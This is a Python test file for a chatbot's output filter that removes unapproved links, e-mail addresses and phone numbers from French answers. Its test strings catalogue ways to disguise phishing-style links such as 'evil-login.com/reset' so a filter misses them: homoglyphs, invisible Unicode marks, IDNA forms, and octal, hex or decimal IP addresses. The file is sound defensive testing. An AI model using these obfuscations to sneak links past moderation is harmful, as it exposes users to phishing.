    """`café.fr/menu`, `bücher.de` or `exemple.café/x` written bare reached the visitor, where
    `exemple.рф` and `xn--…` did not: a Latin name with an accent was read as no host, a Latin
    top-level domain as no top-level domain. Each is an address now, kept when the notes hold
    it, while French sentences, inclusive writing and accented words stay."""
    whole, pieces = _filtered(said, LATIN_KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("évil", "ÉVIL", "bücher.com", "dépôt", "exemple.café/l", "Café:", "vermögens") if word not in shown)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Voir évil.fr/login, bücher.com et exemple.café/x ici.", "Voir (lien retiré), (lien retiré) et (lien retiré) ici."),
        ("La carte : café.fr/menu et bücher.de.", "La carte : café.fr/menu et bücher.de."),  # the notes' own
    ],
)
def test_an_accented_domain_written_with_combining_accents_is_read_as_composed(said, shown):
    """An accent typed as a letter and a combining mark (NFD: « e » and U+0301, as a Mac or a
    visitor's question pasted into the model's writes it) is no word character to `re`: « café.fr/menu »
    so written reached the visitor whole, « bücher.com » as « bü », « exemple.café/x » as « /x ».
    Read as NFC reads it, as IDNA does, each is the address it shows; the notes' own, in either
    writing, stay."""
    decomposed = unicodedata.normalize("NFD", said)
    assert decomposed != said
    known = addresses_in([unicodedata.normalize("NFD", note) for note in LATIN_NOTES])
    for allowed in (LATIN_KNOWN, known):
        assert keep_known_addresses(decomposed, allowed) == shown
        filtered = AddressFilter(allowed)
        pieces = [filtered.feed(c) for c in decomposed] + [filtered.finish()]  # a character at a time
        assert "".join(pieces) == shown


def test_an_accented_domain_whose_top_level_domain_is_capitalised_is_an_address_before_a_path_or_a_port():
    """A capitalised top-level domain after an accented name was read as a sentence ended
    without a space (« terminé.La »), even before a path or a port, where no sentence goes on:
    « Évil-Login.Com/reset », « bücher.De/login » and « évil.Fr:8443 » reached the visitor,
    while « Evil-Login.Com/reset » was taken out. Before a path or a port they are addresses;
    alone, a sentence still."""
    said = "Voir Évil-Login.Com/reset, bücher.De/login ou évil.Fr:8443 ; c'est terminé.La suite, passé.De plus."
    shown = "Voir (lien retiré), (lien retiré) ou (lien retiré) ; c'est terminé.La suite, passé.De plus."
    whole, pieces = _filtered(said, LATIN_KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("Évil", "bücher", "évil"))


def test_a_name_outside_ascii_under_a_top_level_domain_as_idna_writes_it_is_an_address():
    """« évil.xn--p1ai/login » or « пример.xn--p1ai » (the top-level domain « рф » as IDNA writes
    it) reached the visitor, where « évil.рф », « пример.com » and « xn--e1afmkfd.xn--p1ai »
    were taken out: a name outside ASCII was read under a top-level domain in ASCII letters
    only, not one in IDNA's ASCII."""
    said = "Voir évil.xn--p1ai/login, пример.xn--p1ai et ÉVIL.XN--P1AI ici."
    shown = "Voir (lien retiré), (lien retiré) et (lien retiré) ici."
    assert keep_known_addresses(said, LATIN_KNOWN) == shown
    filtered = AddressFilter(LATIN_KNOWN)
    assert "".join([filtered.feed(c) for c in said] + [filtered.finish()]) == shown


# The invisible marks a browser's address bar (UTS46) ignores in a host and `re` reads as no word
# character: the combining grapheme joiner, Mongolian free variation selectors, variation selectors
_IGNORED_MARKS = ["\u034f", "\u180b", "\u180f", "\ufe00", "\ufe0f", "\U000e0100", "\U000e01ef"]


@pytest.mark.parametrize("mark", _IGNORED_MARKS)
def test_an_address_with_an_invisible_mark_a_browser_ignores_inside_is_one(mark):
    """« evil.c\u034fom » or « evil1\ufe0f.com » shows « evil.com », and a browser's address bar,
    which ignores the mark (UTS46), goes there; `re` reads the mark as no word character, so the
    filter read no host, or one cut at the mark, and the address reached the visitor. Read as
    IDNA reads it, each is the address it shows; the notes' own so written stay, and so do an
    emoji's presentation (« ❤\ufe0f », the keycap « 1\ufe0f\u20e3 », « ℹ\ufe0f Note »)."""
    said = (
        f"Allez sur evil.c{mark}om, evil1{mark}.com/login, пример.р{mark}ф ou bü{mark}cher.com, écrivez à jean@evil.c{mark}om,"
        f" appelez le 0{mark}1 23 45 67 89. La carte : café{mark}.fr/menu. ❤\ufe0f 1\ufe0f\u20e3 ℹ\ufe0f Note."
    )
    shown = (
        "Allez sur (lien retiré), (lien retiré), (lien retiré) ou (lien retiré), écrivez à (e-mail retiré),"
        " appelez le (numéro retiré). La carte : café.fr/menu. ❤\ufe0f 1\ufe0f\u20e3 ℹ\ufe0f Note."
    )
    whole, pieces = _filtered(said, LATIN_KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("evil", "пример", "cher", "45 67"))
    assert addresses_in([f"La carte : caf{mark}é.fr{mark}/menu."]) == addresses_in(["La carte : café.fr/menu."])  # the notes' own, so written


@pytest.mark.parametrize("control", ["\U0001bca0", "\U0001bca1", "\U0001bca2", "\U0001bca3"])
def test_an_address_with_a_shorthand_format_control_inside_is_read_as_shown(control):
    """The shorthand format controls (U+1BCA0 to U+1BCA3) are invisible format characters, as a
    zero-width space is, and a browser's address bar ignores them in a host: « evil.c\U0001bca0om »
    shows and opens « evil.com », but `as_shown` kept them and the filter read no host."""
    said = as_shown(f"Allez sur evil.c{control}om ou evil{control}-login.com/x, écrivez à jean@evil{control}.com.")
    assert keep_known_addresses(said, KNOWN) == "Allez sur (lien retiré) ou (lien retiré), écrivez à (e-mail retiré)."


@pytest.mark.parametrize(
    "emoji",
    [
        "\U0001f469\u200d\U0001f4bb",  # a woman and a computer: « 👩‍💻 »
        "\U0001f468\U0001f3fd\u200d\U0001f680",  # a skin tone before the joiner
        "\u2764\ufe0f\u200d\U0001f525",  # a variation selector before it: « ❤️‍🔥 »
        "\U0001f3f3\ufe0f\u200d\u26a7\ufe0f",  # and after the emoji it joins
        "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1",  # two joiners
    ],
)
def test_a_zero_width_joiner_that_joins_two_emoji_is_shown(emoji):
    """`as_shown` dropped every zero-width joiner (U+200D), and an answer showed « 👩‍💻 » as
    « 👩💻 »: between two emoji it is kept, whole or streamed in pieces cut anywhere."""
    said = f"Bienvenue {emoji} au jardin, voir site.example/contact."
    assert as_shown(said) == said
    for cut in range(len(said) + 1):
        pieces = AsShown()
        assert pieces.feed(said[:cut]) + pieces.feed(said[cut:]) == said
    pieces = AsShown()
    assert "".join(pieces.feed(char) for char in said) == said


@pytest.mark.parametrize(
    "said",
    [
        "Allez sur evil\u200d.com ou ev\u200dil-login.com/x, écrivez à jean@evil\u200d.com.",
        "Allez sur \u24d4\u200d\u24e5\u24d8\u24db.com ou evil.\u24d2\u200d\u24de\u24dc, écrivez à jean\u200d@evil.com.",  # letters in circles: no emoji
        "Allez sur evil.c\u200d\u200dom ou evil.\ufe0f\u200dcom\u200d, écrivez à jean@evil.c\u200dom.",
    ],
)
def test_a_zero_width_joiner_inside_an_address_is_dropped(said):
    """A zero-width joiner between two letters, or between an emoji and a letter, joins no emoji:
    it is dropped, whole or streamed, and hides no address from the filter."""
    shown = "Allez sur (lien retiré) ou (lien retiré), écrivez à (e-mail retiré)."
    assert keep_known_addresses(as_shown(said), KNOWN) == shown
    pieces = AsShown()
    assert "".join(pieces.feed(char) for char in said) == as_shown(said)


# emoji, what goes after one, letters in circles, and what shows nothing
_JOINED_PIECES = [*"a.@ \u200d\u200b\ufe0f\U0001f3fd\U0001f469\U0001f4bb\u2764\u24d4\uff45", "\u200d\u200d"]


@given(st.lists(st.sampled_from(_JOINED_PIECES), max_size=20).map("".join), st.lists(st.integers(0, 100), max_size=6))
@settings(max_examples=400, deadline=None)
def test_a_text_streamed_in_any_pieces_is_shown_as_the_whole_is(text, cuts):
    """`AsShown` fed `text` in pieces cut anywhere gives what `as_shown` gives of it whole."""
    bounds = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
    pieces = AsShown()
    assert "".join(pieces.feed(text[a:b]) for a, b in itertools.pairwise(bounds)) == as_shown(text)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        # a letter NFKC reads as an ASCII one in an ASCII top-level domain: bold, superscript, a Roman numeral
        ("Allez sur evil.c\U0001d428m, evil.\u1d9cOM/login ou evil-login.\u217dom.", "Allez sur (lien retiré), (lien retiré) ou (lien retiré)."),
        # letters in circles or squares (no word characters to `re`), in a name or a top-level domain
        ("Allez sur \u24d4\u24e5\u24d8\u24db.com, evil.\u24d2\u24de\u24dc ou \U0001f134VIL.COM/x.", "Allez sur (lien retiré), (lien retiré) ou (lien retiré)."),
        ("Écrivez à jean@\u24d4vil.com ou support@evil.c\U0001d428m.", "Écrivez à (e-mail retiré) ou (e-mail retiré)."),
        # the notes' own so written, kept as typed; prose keeps its own forms
        ("Le site \u24e2\u24d8\u24e3\u24d4.example/contact ; le XIX\u1d49 siècle, 10 m\u00b2, le 1\u1d49\u02b3, \u2460 Étape, 5 \u2113.", None),
    ],
)
def test_an_address_in_letters_a_browser_reads_as_ascii_ones_is_one(said, shown):
    """A browser's address bar reads a letter NFKC reads as an ASCII one as that letter (UTS46):
    « evil.c𝐨m » (a bold « o »), « evil.ᶜOM », « ⓔⓥⓘⓛ.com » open « evil.com ». The filter read a
    top-level domain of ASCII letters, or of letters outside Latin, not one that mixes them, and
    a letter in a circle or a square as no letter: these reached the visitor. Read as the
    browser reads them, they are addresses, taken out unless the notes hold them; what is shown
    is what the model wrote (« XIXᵉ », « m² », « ① » stay)."""
    shown = shown or said
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown


def test_a_web_address_whose_host_is_an_ipv6_address_is_one():
    """« http://[2001:db8::1]/login » opens the page of that host, but the address's pattern read
    no bracket after the scheme, so it reached the visitor whole; a note's own stays."""
    notes = addresses_in(["Le routeur : http://[2001:db8::1]:8080/admin."])
    said = "Allez sur http://[2001:db8::1]/login, HTTPS://[2001:DB8::BAD]:8443 ou [ici](https://[::1]/x), puis http://[2001:db8::1]:8080/admin."
    shown = "Allez sur (lien retiré), (lien retiré) ou ici, puis http://[2001:db8::1]:8080/admin."
    whole, pieces = _filtered(said, notes)
    assert whole == "".join(pieces) == shown


ALONE_NOTES = ("Le serveur répond sur 198.51.100.20, le routeur sur http://[2001:db8::2]:8080/ et la box sur 2001:DB8:0:0::3.",)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Le serveur est sur 203.0.113.7.", "Le serveur est sur (lien retiré)."),
        ("Le DNS 1.1.1.1, la box 192.168.1.254 ou (10.0.0.1).", "Le DNS (lien retiré), la box (lien retiré) ou ((lien retiré))."),
        ("En IPv6 : 2001:db8::1, fe80::1ff:fe23:4567:890a ou 2001:0db8:0:0:0:0:0:1.", "En IPv6 : (lien retiré), (lien retiré) ou (lien retiré)."),
        # the notes' own, in any writing, and its host in an address with a port
        ("Le serveur 198.51.100.20, le routeur 2001:DB8::2, la box 2001:db8::3.", "Le serveur 198.51.100.20, le routeur 2001:DB8::2, la box 2001:db8::3."),
        # versions, dates, times, decimals, a network, a number in 0.0.0.0/8, a slice, a class's name
        (
            "GrasBot 3.10.0, Python 3.11.4, v1.2.3.4, 1.2.3.4.5, 0.9.1.2, 300.1.1.1, le 12.05.2024 à 12:30:45, 3.14, 10.0.0.0/24.",
            "GrasBot 3.10.0, Python 3.11.4, v1.2.3.4, 1.2.3.4.5, 0.9.1.2, 300.1.1.1, le 12.05.2024 à 12:30:45, 3.14, 10.0.0.0/24.",
        ),
        (
            "Le tableau a[1::2], x[::3], std::vector, Foo::Bar, 00:1a:2b:3c:4d:5e et 1:2:3:4:5:6:7:8:9.",
            "Le tableau a[1::2], x[::3], std::vector, Foo::Bar, 00:1a:2b:3c:4d:5e et 1:2:3:4:5:6:7:8:9.",
        ),
    ],
)
def test_an_ip_address_alone_is_one(said, shown):
    """« le serveur est sur 203.0.113.7 » or « 2001:db8::1 » reached the visitor: an IP address
    was read only with a scheme, a port or a path, for « 1.2.3.4 » may be a version. Four
    decimal numbers of 0 to 255 (the first not 0: 0.0.0.0/8 no browser reaches) and an IPv6
    address with a group of three digits at least are an address a visitor types; a version of
    the notes stays as they hold it, one of three parts or more than four, a date, a time stay."""
    whole, pieces = _filtered(said, addresses_in(ALONE_NOTES))
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("203.0", "1.1.1.1", "192.168", "10.0.0.1", "db8::1", "fe80", "0db8") if word not in shown)


def test_a_web_address_written_with_backslashes_after_its_scheme_is_one():
    """A browser reads a backslash after `http:` or `https:` as a slash (WHATWG URL: « https:\\\\evil.com »
    opens https://evil.com/), but the address's pattern read `://` only: « https:\\\\evil.example/login »
    and « http:/\\evil.example » reached the visitor; the notes' own so written stays."""
    said = "Allez sur https:\\\\evil.example/login, HTTP:/\\evil.example ou ftp:\\/evil.example/x ; le site : https:\\\\site.example/contact."
    shown = "Allez sur (lien retiré), (lien retiré) ou (lien retiré) ; le site : https:\\\\site.example/contact."
    whole, pieces = _filtered(said, KNOWN)
    assert whole == "".join(pieces) == shown
    assert not any("evil" in p for p in pieces)


#: The notes of the test below: a NAS by its IP address in octal, a console by its number
NUMERIC_NOTES = ("Le NAS répond sur 0300.0250.1.2:5000/photos, la console sur 3221225994:9090/console.",)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        # four parts in hexadecimal, octal or with zeros before, as a dotted quad: a port or a path
        ("Ouvrez 0x7f.0.0.1:8080 ou 0177.0.0.1/admin.", "Ouvrez (lien retiré) ou (lien retiré)."),
        ("Ouvrez 0XCB.0.0x71.5:8443/login ou 203.000.113.005:80.", "Ouvrez (lien retiré) ou (lien retiré)."),
        # one to three parts, a number: a port and a path
        ("Ouvrez 2130706433:8080/admin, 127.1:8080/admin ou 0x7f000001:80/x.", "Ouvrez (lien retiré), (lien retiré) ou (lien retiré)."),
        ("Ouvrez 203.113.5:8080/login ou 0xcb.0x710005:443/x.", "Ouvrez (lien retiré) ou (lien retiré)."),
        # protocol-relative
        ("Voir //0x7f.0.0.1/admin ou //2130706433:8080/x.", "Voir (lien retiré) ou (lien retiré)."),
        # the notes' own
        ("NAS : 0300.0250.1.2:5000/photos, console : 3221225994:9090/console.", "NAS : 0300.0250.1.2:5000/photos, console : 3221225994:9090/console."),
        # prose: a number, a time, a ratio, a version, a network, a fraction, a range of times or ratios
        (
            "Le nombre 2130706433, à 12:30, en 16:9 ou 2.39:1, Python 3.11.4, 1.2.3, 10.0.0.0/24, 1.2.3.4.5, 1.2/45, 12:30/14:00, 16:9/4:3, 0x7f/2.",
            "Le nombre 2130706433, à 12:30, en 16:9 ou 2.39:1, Python 3.11.4, 1.2.3, 10.0.0.0/24, 1.2.3.4.5, 1.2/45, 12:30/14:00, 16:9/4:3, 0x7f/2.",
        ),
    ],
)
def test_an_ip_address_written_as_numbers_a_browser_opens_is_one(said, shown):
    """A browser reads an IPv4 address in any of its writings (WHATWG URL: « 2130706433 »,
    « 0x7f.1 », « 0177.0.0.1 », « 127.1 » are 127.0.0.1), and its address bar opens, typed or
    pasted without a scheme, four parts with a port or a path, and fewer with a port and a path
    (Chromium's omnibox: « 1.66:1 » and « 1.2/45 » it searches for); only a dotted quad of
    decimal numbers was read, so « 0x7f.0.0.1:8080 » or « 2130706433:8080/admin » reached the
    visitor."""
    notes = addresses_in(NUMERIC_NOTES)
    whole, pieces = _filtered(said, notes)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("0x7f", "0177", "2130706433:", "127.1", "203.113", "0xcb", "0XCB", "203.000") if word not in shown)


def test_an_ip_address_in_fewer_parts_before_a_path_ending_in_a_slash_is_one():
    """An address bar opens an IPv4 address in fewer than four parts before a path that ends in
    a slash (Chromium's omnibox: « trailing slashes force the input to be treated as a URL »):
    « 2130706433/admin/ », « 127.1/ » reached the visitor, a path without that slash is prose
    (« 1.2/45 »), and so are a date or a fraction."""
    notes = addresses_in(["La console : 3221225994/console/."])
    said = "Ouvrez 2130706433/admin/, 127.1/ ou 0x7f000001/x/. La console : 3221225994/console/. Le 12/05/2026, 1.2/45, 1/2/, 2130706433/2."
    shown = "Ouvrez (lien retiré), (lien retiré) ou (lien retiré). La console : 3221225994/console/. Le 12/05/2026, 1.2/45, 1/2/, 2130706433/2."
    whole, pieces = _filtered(said, notes)
    assert whole == "".join(pieces) == shown
    assert not any(word in p for p in pieces for word in ("2130706433/a", "127.1/", "0x7f"))


def test_a_pattern_compiled_at_first_use_copies_and_pickles_as_a_compiled_one():
    """`LazyPattern` reads as the `re.Pattern` it stands for: copied or pickled (a structure that
    holds one deep-copied, a worker process given one), it recursed for ever looking for
    `__setstate__` on an object whose pattern was not set yet."""
    import copy
    import pickle

    from grasbot._contacts import EMAIL

    for again in (copy.copy(EMAIL), copy.deepcopy(EMAIL), pickle.loads(pickle.dumps(EMAIL))):
        assert again.search("écrivez à jean@exemple.fr").group() == "jean@exemple.fr"


def _addresses(pattern: re.Pattern[str], text: str) -> list[tuple[tuple[int, int], dict[str, str | None]]]:
    return [(m.span(), m.groupdict()) for m in pattern.finditer(text)]


_SCANNED = [
    *NOTES,
    *SAME,
    "Écrire à JEAN AROBASE EXEMPLE POINT FR",
    "ou jean [AT] exemple [DOT] fr",
    "ou jean (at) exemple.fr",
    "jean aroba\u017fe exemple point fr, HTTPS://EVIL.EXAMPLE/X, WWW.EVIL.EXAMPLE, //evil.example/login",
    '[la page](https://evil.example/x "titre"), <mailto:a@b.fr>, git@github.com:moi/depot.git, ssh://git@host.example/moi',
    "203.0.113.5:8080/admin, 10.0.0.0/24, exemple.рф, xn--e1afmkfd.xn--p1ai/login, +33 6 12 34 56 78, 06.12.34.56.78",
    *LATIN_NOTES,
    "café.FR, CAFÉ.Fr, terminé.La, salarié.es, exemple.café:80, evil.VERMÖGENSBERATUNG/x",
]


def test_passages_are_read_for_their_addresses_as_the_whole_pattern_reads_them():
    """`addresses_in` reads a text with `_ADDRESS` less the kinds it cannot hold (`_scan_for`:
    no « @ », no e-mail address; no « // » nor « www. », no URL), which took 7 ms a prompt
    when every kind was tried at every character: the same matches, group by group, on every
    note of the bundled vault and on texts that hold each kind in each case."""
    from grasbot.answer.addresses import _ADDRESS, _scan_for

    texts = [*_SCANNED, *(path.read_text(encoding="utf-8") for path in sorted(BUNDLED_VAULT.rglob("*.md")))]
    assert len(texts) > 40
    for text in texts:
        assert _addresses(_scan_for(text.casefold()), text) == _addresses(_ADDRESS.compiled, text), text[:80]
    assert _scan_for("un texte sans rien").pattern != _ADDRESS.pattern  # kinds were left out


_PIECES = [*"ab.:/@[]()<> 0123456789-_\u017f\u212aKWw\\", " at ", "at", "arobase", "www.", "https://", "https:\\\\", "git@", " point ", ".fr", ".com"]


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
@settings(max_examples=400, deadline=None)
def test_any_text_is_read_for_its_addresses_as_the_whole_pattern_reads_it(text):
    from grasbot.answer.addresses import _ADDRESS, _scan_for

    assert _addresses(_scan_for(text.casefold()), text) == _addresses(_ADDRESS.compiled, text)


_DEV_VAULTS = BUNDLED_VAULT.parent / "eval" / "vaults"
# what a phone number or a bare domain begins or is made of, and what ends or hides one
_STARTS_PIECES = [
    *"ab0123456789.-_+() :/@\u00a0\u202f\u017f\u212a\u0130é\u034f\ufe0f\u24d4\U0001d428\u1d9c",
    *("(+33)", "+33 ", "00 ", "06", ".fr", ".com", ".рф", "xn--p1ai", "пример", "1.2.3.4", ":8080", "/x"),
    *("0x7f", "2130706433", "127.1", "0177.0.0.1"),
    *("2001:db8", "::1", "fe80", "abcd:", "1.1.1.1", "192.168"),  # alone
    *("06 12 34 56 78", "6 12 34 56 78", "612345678", "exemple.fr", "Evil.Com", "ſite.fr"),
]
# phone numbers and bare domains alone, where a text is read for them only where one may begin
_BEGINNINGS = [
    "Appeler le 06 12 34 56 78, le (+33) 6 12 34 56 78, le 0033 6 12 34 56 78 ou le +1 555 123-4567.",
    "0612345678 puis +33612345678, (+33)612345678, tel-06.12.34.56.78, 06.12.34.56.78 et 06-12-34-56-78",
    "Voir exemple.fr, EVIL-LOGIN.COM, Evil-Login.Com/reset, a_b.fr, _x.io, 203.0.113.5:8080/admin, 10.0.0.0/24",
    "Sur 203.0.113.7, (1.1.1.1), 2001:db8::1, fe80::1ff:fe23:4567:890a, abcd:ef01::1, ABCD::1234 ou a[1::2]",
    "exemple.рф, пример.рф/страница, xn--e1afmkfd.xn--p1ai/login, bit.ly/3xYz, ſite.fr, \u212aelvin.com, evil.example:8443/x",
    "README.md, Node.js, df.info(), fini.La, terminé.La, self.training, p.ex. 1.2.3.4 et 3.11",
    "2130706433:8080/admin, 0x7f.0.0.1:8080, 127.1:8080/x, 0177.0.0.1/x, 12:30/14:00, 16:9, 2.39:1",
    "2130706433/admin/, 127.1/ (0x7f000001/x/), 12/05/2026, 1/2/, 1.2/45, 2130706433/2.",
]


def _found_as_whole(text: str) -> tuple[list, list]:
    from grasbot.answer.addresses import _ADDRESS, _found

    return [(m.span(), m.groupdict()) for m in _found(text, text.casefold())], _addresses(_ADDRESS.compiled, text)


def test_a_text_is_read_for_its_addresses_only_where_one_may_begin():
    """A passage holds phone numbers and bare domains only, as a rule, and their pattern tried
    at every character took 1.6 ms a prompt: it is tried only where one may begin (`_found`:
    a « 0 », « + » or « ( », the word a dot ends), at one character in 120 of the bundled
    vault's notes, with the same matches."""
    from grasbot.answer.addresses import _found, _may_begin, _scan_for

    notes = [path.read_text(encoding="utf-8") for path in sorted(BUNDLED_VAULT.rglob("*.md"))]
    texts = [text for text in notes if _scan_for(text.casefold()) is _scan_for("")]
    assert len(texts) > 30
    for text in texts:
        assert [m.span() for m in _found(text, text.casefold())] == [m.span() for m in _scan_for(text.casefold()).finditer(text)]
    assert sum(len(_may_begin(text)) for text in texts) * 50 < sum(len(text) for text in texts)


def test_addresses_found_where_one_may_begin_are_those_the_whole_pattern_finds():
    """The same matches, group by group, as `_ADDRESS` tried at every character: on phone numbers
    and bare domains in each writing, texts that hold each kind in each case, every note of the
    bundled vault and of the dev vaults."""
    files = [*BUNDLED_VAULT.rglob("*.md"), *_DEV_VAULTS.rglob("*.md")]
    texts = [*_BEGINNINGS, *_SCANNED, *(path.read_text(encoding="utf-8") for path in sorted(files))]
    assert len(texts) > 100
    for text in texts:
        found, whole = _found_as_whole(text)
        assert found == whole, text[:80]


@given(st.lists(st.sampled_from(_STARTS_PIECES + _PIECES), max_size=40).map("".join))
@settings(max_examples=600, deadline=None)
def test_any_text_gives_where_one_may_begin_what_the_whole_pattern_finds(text):
    found, whole = _found_as_whole(text)
    assert found == whole


def test_what_a_stream_holds_back_is_looked_for_from_where_a_word_begins() -> None:
    """`held_from` reads again all a stream holds, each piece: a pattern tried inside a long word
    (or run of digits, dots, `0x`) ran to its end from every character, and an answer of 1,200
    « a » (LLM_MAX_TOKENS' default) in pieces of 4 took 20 s of the event loop. A pattern that
    may hold white space begins where its run of characters begins, never inside it; the others
    are looked for in the last word alone (what is before a space is decided)."""
    from grasbot.answer import addresses

    for pattern, word in (
        (addresses._STARTED, "jean.dupont%x"),
        (addresses._PORTED, "serveur.local:80"),
        (addresses._SPELLING, "jean arobase"),
        (addresses._SPELLING, "a.b.exemple.fr/x"),
    ):
        assert pattern.match(word) is not None
        inside = [at for at in range(1, len(word)) if word[at - 1] not in " " and pattern.match(word, at) is not None]
        assert inside == [], (pattern.pattern[:30], word)

    class Read:
        """A pattern that counts the characters it is given."""

        def __init__(self, pattern: re.Pattern[str]) -> None:
            self.pattern, self.read = pattern, 0

        def search(self, text: str, *at: int) -> re.Match[str] | None:
            self.read += len(text) - (at[0] if at else 0)
            return self.pattern.search(text, *at)

    started, ported = Read(addresses._STARTED), Read(addresses._PORTED)
    text = "1/" * 5_000 + " voir 1/x"
    old = addresses._STARTED, addresses._PORTED
    addresses._STARTED, addresses._PORTED = started, ported  # type: ignore[assignment]
    try:
        assert addresses.held_from(text) == len(text) - len("1/x")
    finally:
        addresses._STARTED, addresses._PORTED = old
    assert started.read <= len("1/x") and ported.read <= len("1/x")


# Runs a stream holds whole however long (`held_from`): a word that may become an e-mail address,
# digits, `0x`, dots, ports and slashes, a link's label or target left open, a URL's path: what
# begins each, and what goes on
_HELD_RUNS = [("", "1"), ("", "0x"), ("", "a"), ("", "1/"), ("", "a."), ("", "1."), ("", "1:"), ("", "a@")]
_HELD_RUNS += [("[", "a"), ("[a](", "mot "), ("[a](", "mot ("), ("https://x.fr/", "a/"), ("a.b/", "c")]
_HELD_RUNS += [("", "é"), ("", "e\u0301"), ("[a](", "été "), ("", "1\u00a0")]  # read as shown first: NFC, a no-break space


def test_a_held_run_is_read_again_in_time_linear_in_its_length(monkeypatch: pytest.MonkeyPatch) -> None:
    """A stream read all it held again with each piece: an answer of a long run without white
    space (or a link left open) in pieces of 4 took time quadratic in its length, 10-25 s of
    the event loop at 9,600 characters (LLM_MAX_TOKENS goes to 32,768). The characters given to
    what reads the held text (`held_from`, `_read_code`, `_composed`, `_as_read`, `_ADDRESS`)
    stay within a few times the answer's length, and grow with it."""
    from grasbot.answer import addresses

    said = {(run, n): "Voici : " + (begin + run * n)[:n] + " fin." for begin, run in _HELD_RUNS for n in (2_000, 8_000)}
    whole = {key: keep_known_addresses(text, KNOWN) for key, text in said.items()}
    read = 0

    def counted(function):
        def wrapper(text, *args):
            nonlocal read
            read += len(text)
            return function(text, *args)

        return wrapper

    class Scan:
        """`_ADDRESS`, counting the characters it is asked to read."""

        def __init__(self, pattern: re.Pattern[str]) -> None:
            self.pattern = pattern

        def finditer(self, text: str, at: int = 0) -> Iterator[re.Match[str]]:
            nonlocal read
            read += len(text) - at
            return self.pattern.finditer(text, at)

    for name in ("held_from", "_read_code", "_composed", "_as_read"):
        monkeypatch.setattr(addresses, name, counted(getattr(addresses, name)))
    monkeypatch.setattr(addresses, "_ADDRESS", Scan(addresses._ADDRESS))
    reads = {}
    for (run, n), text in said.items():
        read = 0
        stream = AddressFilter(KNOWN)
        shown = "".join(stream.feed(text[i : i + 4]) for i in range(0, len(text), 4)) + stream.finish()
        assert shown == whole[run, n], run
        reads[run, n] = read
        assert read <= 80 * len(text), (run, n, read)  # read again at each piece: 1,250 times at 2,000 characters
    for _, run in _HELD_RUNS:  # four times as long, about four times as much read (sixteen, read again at each piece)
        assert reads[run, 8_000] <= 4.5 * reads[run, 2_000], (run, reads[run, 2_000], reads[run, 8_000])


_AROUND_RUNS = [" ", "\n", "(", ")", "]", "@", ":", "/", "8080", ".fr", "evil.com", "é", "e\u0301", "\u034f", "`", "www.", "<"]


@given(
    st.lists(
        st.tuples(
            st.sampled_from([*(begin + run for begin, run in _HELD_RUNS), *_AROUND_RUNS]),
            st.integers(1, 12),
        ),
        max_size=12,
    ).map(lambda runs: "".join(part * times for part, times in runs)),
    st.lists(st.integers(0, 400), max_size=30),
)
@settings(max_examples=300, deadline=None)
def test_held_runs_streamed_in_any_pieces_are_shown_as_the_whole_is(text, cuts):
    """Runs a stream holds (`_HELD_RUNS`), cut anywhere: what it shows is what the whole answer's
    filter shows."""
    bounds = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
    stream = AddressFilter(KNOWN)
    shown = "".join(stream.feed(text[a:b]) for a, b in itertools.pairwise(bounds)) + stream.finish()
    assert shown == keep_known_addresses(text, KNOWN)


@pytest.mark.parametrize("said", ["Écrivez @\u034fevil.com ou x@\u034fevil.com.", "Voir .\u034fevil.com et -\ufe0fevil.com."])
def test_a_mark_idna_ignores_after_what_was_shown_is_dropped_as_in_the_whole(said):
    """A combining grapheme joiner or a variation selector after a character already shown (« @ »,
    « . », « - ») is dropped from the whole answer (`_composed` reads the character before it),
    but the stream read the next piece without it: the mark stayed, and the stream showed
    another text than the answer, at any cut after that character."""
    whole = keep_known_addresses(said, KNOWN)
    for cut in range(len(said) + 1):
        pieces = AddressFilter(KNOWN)
        assert pieces.feed(said[:cut]) + pieces.feed(said[cut:]) + pieces.finish() == whole, cut
